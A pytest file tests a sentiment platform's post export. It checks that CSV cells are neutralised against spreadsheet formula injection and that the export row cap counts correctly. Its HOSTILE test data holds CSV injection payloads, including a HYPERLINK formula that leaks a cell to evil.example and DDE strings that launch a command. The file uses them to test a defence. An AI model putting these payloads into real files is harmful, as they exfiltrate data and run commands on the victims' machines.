"""The export's safety and its row cap, on SQLite and PostgreSQL: CSV cells a spreadsheet
would run as formulas are neutralised, and EXPORT_MAX_ROWS counts the posts an export would
really hold, and holds."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from sentiment_platform import store
from sentiment_platform.domain import Analysis, Emotion, Post, Sentiment, utcnow
from sentiment_platform.services.reporting import export
from sentiment_platform.services.retention import posts_cutoff, purge_once
from tests.support.app_client import app_client
from tests.support.seed import seed

pytestmark = pytest.mark.asyncio

HOSTILE = {
    "f-eq": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "f-plus": "+1+cmd|' /C calc'!A0",
    "f-minus": "-2+3+cmd|' /C calc'!A0",
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
    "f-plain": "plain words, then = and @ inside",
}


def _posts(contents: dict[str, str], at, author: str | None = None) -> list[Post]:
    return [
        Post(post_id=post_id, source="test", content=content, author=author, created_at=at)
        for post_id, content in contents.items()
    ]


def _analyses(posts: list[Post]) -> list[Analysis]:
    return [
        Analysis(
            post_id=post.post_id,
            sentiment=Sentiment.NEUTRAL,
            confidence=0.9,
            emotion=Emotion.NEUTRAL,
            emotion_confidence=0.9,
            model="-test",  # a column a formula could hide in, too
            analyzed_at=post.created_at,
        )
        for post in posts
    ]


async def _save(session_factory, posts: list[Post]) -> None:
    async with session_factory() as session, session.begin():
        await store.save_batch(session, posts, _analyses(posts))


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(database) -> None:
    settings, session_factory = database
    posts = _posts(HOSTILE, utcnow() - timedelta(hours=1), author="@mallory")
    await _save(session_factory, posts)
    async with app_client(settings, session_factory) as (_, client):
        csv_answer = await client.get("/api/posts/export", params={"format": "csv"})
        jsonl_answer = await client.get("/api/posts/export", params={"format": "jsonl"})
    assert csv_answer.status_code == jsonl_answer.status_code == 200
    rows = {row["post_id"]: row for row in csv.DictReader(io.StringIO(csv_answer.text, newline=""))}
    for post_id, content in HOSTILE.items():
        row = rows[post_id]
        expected = content if post_id == "f-plain" else "'" + content
        assert row["content"] == expected, post_id
        assert row["author"] == "'@mallory" and row["model"] == "'-test"
        assert row["created_at"][0].isdigit()  # no other cell gains a quote
    raw = {item["post_id"]: item for item in map(json.loads, jsonl_answer.text.splitlines())}
    assert {post_id: raw[post_id]["content"] for post_id in HOSTILE} == HOSTILE  # JSONL: raw
    assert raw["f-eq"]["author"] == "@mallory"


async def test_a_text_search_under_the_cap_is_counted_by_its_matches(database) -> None:
    """The cap used to be counted from the rollups, which cannot see a text search: a
    search matching 8 posts was refused because the store held 370."""
    settings, session_factory = database
    await seed(session_factory)  # 370 posts; "Launch" in 8 of them
    capped = settings.model_copy(update={"export_max_rows": 100})
    async with app_client(capped, session_factory) as (_, client):
        found = await client.get("/api/posts/export", params={"q": "launch", "format": "jsonl"})
        assert found.status_code == 200, found.text
        assert len(found.text.splitlines()) == 8
        broad = await client.get("/api/posts/export", params={"q": "seed", "format": "jsonl"})
        assert broad.status_code == 422  # 370 matches
        assert "more than 100 posts" in broad.json()["detail"]
        assert "EXPORT_MAX_ROWS" in broad.json()["detail"]


async def test_posts_retention_deleted_do_not_count_against_the_cap(database) -> None:
    """The rollups keep the counts of posts RETENTION_DAYS deleted: those must not refuse an
    export of what is left."""
    settings, session_factory = database
    now = utcnow()
    old = _posts({f"old{i}": f"old post {i}" for i in range(150)}, now - timedelta(days=40))
    recent = _posts({f"new{i}": f"new post {i}" for i in range(5)}, now - timedelta(hours=1))
    await _save(session_factory, old + recent)
    policy = settings.model_copy(update={"retention_days": 30, "retention_batch": 100})
    assert (await purge_once(session_factory, policy)).posts == 150
    everything = store.PostFilter()
    async with session_factory() as session:
        assert await export.row_cap(session, everything, 100, posts_cutoff(policy)) == 100
        with pytest.raises(export.ExportTooLarge, match="hold 5 posts"):
            await export.row_cap(session, everything, 4, posts_cutoff(policy))
        ranged = store.PostFilter(since=now - timedelta(days=1))
        assert await export.row_cap(session, ranged, 1, posts_cutoff(policy)) is None  # any size


async def test_posts_stored_while_an_export_streams_cannot_carry_it_past_the_cap(
    database,
) -> None:
    """The cap is counted when the export starts; a post stored (with an older timestamp)
    while it streams would land in a page still to come. Without a range the stream
    stops at the cap."""
    _, session_factory = database
    now = utcnow()
    first = _posts({f"a{i:04d}": f"post {i}" for i in range(1_200)}, now - timedelta(hours=1))
    await _save(session_factory, first)
    everything = store.PostFilter()
    async with session_factory() as session:
        cap = await export.row_cap(session, everything, 1_200)
    assert cap == 1_200
    chunks = export.export_chunks(session_factory, everything, "jsonl", max_rows=cap)
    head = await anext(chunks)  # the first page of 1,000 rows
    late = _posts({f"b{i:04d}": f"late {i}" for i in range(100)}, now - timedelta(days=2))
    await _save(session_factory, late)
    body = head + b"".join([chunk async for chunk in chunks])
    ids = [json.loads(line)["post_id"] for line in body.splitlines()]
    assert len(ids) == 1_200 and len(set(ids)) == 1_200
    # The late posts were in the part still to walk: uncapped, the same stream holds them.
    uncapped = export.export_chunks(session_factory, everything, "jsonl")
    assert len(b"".join([chunk async for chunk in uncapped]).splitlines()) == 1_300
